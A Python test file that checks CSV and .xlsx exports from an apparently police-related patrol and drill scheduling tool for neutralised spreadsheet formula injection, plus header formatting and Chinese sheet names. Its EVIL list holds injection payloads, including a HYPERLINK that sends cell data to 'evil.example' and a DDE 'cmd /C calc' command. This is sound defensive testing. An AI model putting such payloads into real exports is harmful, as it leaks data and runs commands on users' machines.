"""Formula injection in every export: a name starting with = + - @, tab or CR is never a live
formula — a text cell with Excel's quote prefix in .xlsx (value unchanged), a leading `'` in
.csv — and imports back unchanged; numbers stay numbers. Every workbook has a bold, frozen
header row, an autofilter and fitted widths, and a Chinese workbook has Chinese sheet names,
headers and solver figures."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select
from sqlmodel import Session

from optimizer.drills import DrillParams, schedule_drills
from optimizer.drills.schedule_io import write_schedule_xlsx
from optimizer.patrol import SolveParams, plan_patrol
from optimizer.patrol.plan_io import write_plan_xlsx
from optimizer.xlsx import append, is_formula_like, neutralise, restore
from rosters.models import Person
from rosters.tables import export_table, import_table
from tests.optimizer import drill_cases
from tests.optimizer.patrol_cases import person, post, scenario
from tests.rosters.test_import_export import base, write_csv  # noqa: F401  (fixture)

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _no_formulas(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), name


def _formatted(sheet: Any) -> None:
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
    assert all(c.font.bold for c in sheet[1] if c.value is not None)
    assert sheet.column_dimensions["A"].width and sheet.column_dimensions["A"].width > 4


def _latin(text: Any) -> bool:
    return isinstance(text, str) and bool(re.search(r"[A-Za-z]{3,}", text))


def test_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    for text in EVIL:
        assert is_formula_like(text) and neutralise(text) == "'" + text
        assert restore(neutralise(text)) == text
    for value in [-3, -2.5, "-3", "+86", "1e5", "张三", "", None, "a=b"]:
        assert neutralise(value) == value
    book = Workbook()
    append(book.active, [*EVIL, -3, -2.5, "-7"])
    book.save(tmp_path / "x.xlsx")
    _no_formulas(tmp_path / "x.xlsx")
    cells = next(iter(load_workbook(tmp_path / "x.xlsx").active.iter_rows()))
    assert [c.value for c in cells[: len(EVIL)]] == [t.replace("\r", "\n") for t in EVIL]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[: len(EVIL)])
    assert [c.value for c in cells[len(EVIL) :]] == [-3, -2.5, "-7"]
    assert cells[len(EVIL)].data_type == "n"


@pytest.fixture
def evil_people(base: Session, tmp_path: Path) -> Session:  # noqa: F811
    rows = [["警号", "姓名", "力量类型", "所属单位", "辖区编码", "电话"]]
    rows += [[f"E{i}", name, "巡特警", "XT-1", "ZY01", "=1+1"] for i, name in enumerate(EVIL)]
    import_table(base, "people", write_csv(tmp_path / "evil.csv", rows))
    return base


def test_people_export_csv_is_neutralised_and_imports_back(
    evil_people: Session, tmp_path: Path
) -> None:
    out = tmp_path / "people.csv"
    export_table(evil_people, "people", out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    assert not any(is_formula_like(c) for c in cells)
    assert "'" + EVIL[0] in cells
    import_table(evil_people, "people", out, mode="upsert")
    names = evil_people.execute(select(Person.name).where(Person.badge.like("E%"))).scalars().all()
    assert sorted(names) == sorted(e.strip() for e in EVIL)  # cells are trimmed on import


def test_people_export_xlsx_has_no_formula_and_is_formatted(
    evil_people: Session, tmp_path: Path
) -> None:
    out = tmp_path / "people.xlsx"
    export_table(evil_people, "people", out)
    _no_formulas(out)
    sheet = load_workbook(out).active
    _formatted(sheet)
    names = {c.value for c in sheet["B"][1:]}
    assert {e.strip() for e in EVIL} <= names
    import_table(evil_people, "people", out, mode="upsert")


def test_plan_workbook_is_neutralised_formatted_and_chinese(tmp_path: Path) -> None:
    people = [person("P1"), person("P2")]
    people[0]["name"] = EVIL[0]
    case = scenario(people, [post("X1")])
    case.posts[0].name = EVIL[3]
    result = plan_patrol(case, SolveParams(time_limit=10, num_workers=1))
    path = write_plan_xlsx(case, result, tmp_path / "plan.xlsx")
    _no_formulas(path)
    book = load_workbook(path)
    assert book.sheetnames == ["勤务安排", "缺口", "求解"]
    for sheet in book.worksheets:
        _formatted(sheet)
    values = [c.value for c in book["勤务安排"]["H"][1:]]
    assert EVIL[0] in values
    header = [c.value for s in book.worksheets for c in s[1]]
    assert not any(_latin(h) for h in header)
    names = [row[0] for row in book["求解"].iter_rows(min_row=2, values_only=True)]
    assert not any(_latin(n) for n in names), names


def test_drill_workbook_is_formatted_and_chinese(tmp_path: Path) -> None:
    s = drill_cases.scenario()
    s.units[0].name = EVIL[1]
    r = schedule_drills(s, DrillParams(time_limit=20, num_workers=1))
    path = write_schedule_xlsx(s, r, tmp_path / "d.xlsx")
    _no_formulas(path)
    book = load_workbook(path)
    for sheet in book.worksheets:
        _formatted(sheet)
    statuses = {row[10] for row in book["演练日程"].iter_rows(min_row=2, values_only=True)}
    assert statuses <= {"已安排", "已完成", "未进行", "已取消"}
    names = [row[0] for row in book["求解"].iter_rows(min_row=2, values_only=True)]
    assert not any(_latin(n) for n in names), names
